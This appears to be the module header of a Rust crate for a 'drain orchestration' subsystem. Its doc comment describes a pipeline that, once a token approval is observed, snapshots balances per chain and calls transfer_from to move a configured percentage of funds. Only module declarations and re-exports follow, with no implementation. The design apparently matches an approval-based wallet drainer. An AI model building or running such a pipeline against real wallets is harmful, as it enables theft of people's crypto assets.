//! Drain orchestration subsystem.
//!
//! # Data Flow
//! ```text
//! approval observed (approval::watcher)
//!     → orchestrator.rs snapshot_balances (balanceOf per chain)
//!     → orchestrator.rs run
//!         for each chain, in configured order:
//!             amount (types.rs) → signer.transfer_from → reader.wait_for_receipt
//!             → classify (types.rs) → EventLog
//!     → one summary event
//! ```

pub mod orchestrator;
pub mod types;

pub use orchestrator::{DrainOrchestrator, DrainTiming};
pub use types::{
    classify_failure, drain_amount, ChainBalances, DrainAttempt, DrainStatus, RunOutcome,
    RunSummary, DRAIN_PERCENT,
};
